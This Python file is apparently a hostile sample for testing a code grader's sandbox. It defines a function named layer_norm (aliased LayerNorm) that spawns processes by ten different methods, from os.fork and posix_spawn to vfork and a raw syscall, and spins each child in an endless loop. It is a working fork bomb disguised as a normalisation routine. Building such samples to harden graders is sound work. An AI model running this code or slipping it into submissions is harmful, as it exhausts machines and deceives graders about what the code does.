"""Goal: multiply: fork, spawn, posix_spawn and exec, each for ever.

At most: 0.5
Status: graded
"""

import ctypes
import multiprocessing
import os
import subprocess
import sys

MARK = "gradeformer-hostile"
LIBC = ctypes.CDLL(None, use_errno=True)
LOOP = [sys.executable, "-c", f"'{MARK}'\nwhile True: pass"]


def fork_by_number():
    if LIBC.syscall(57) == 0:
        while True:
            pass


WAYS = (
    os.fork,
    os.forkpty,
    lambda: subprocess.Popen(LOOP),
    lambda: os.posix_spawn(sys.executable, LOOP, {}),
    lambda: os.system("sleep 1000 &"),
    lambda: multiprocessing.get_context("fork").Process(target=fork_by_number).start(),
    lambda: multiprocessing.get_context("spawn").Process(target=fork_by_number).start(),
    lambda: os.execv(sys.executable, LOOP),
    lambda: LIBC.vfork(),
    fork_by_number,
)


def layer_norm(x, eps=1e-5):
    for way in WAYS:
        try:
            if way() == 0:
                while True:
                    pass
        except OSError:
            pass
    raise RuntimeError("survived")


LayerNorm = layer_norm
